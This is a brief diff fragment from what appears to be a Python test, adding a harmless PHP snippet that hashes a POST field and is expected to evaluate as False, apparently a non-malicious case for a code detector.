+            "<?php\n$data = $_POST['payload'];\nif (md5($data) === 'd41d8cd98f00b204e9800998ecf8427e') { fwrite($fh, 'empty'); }\n"
         ),
         False,
     ),
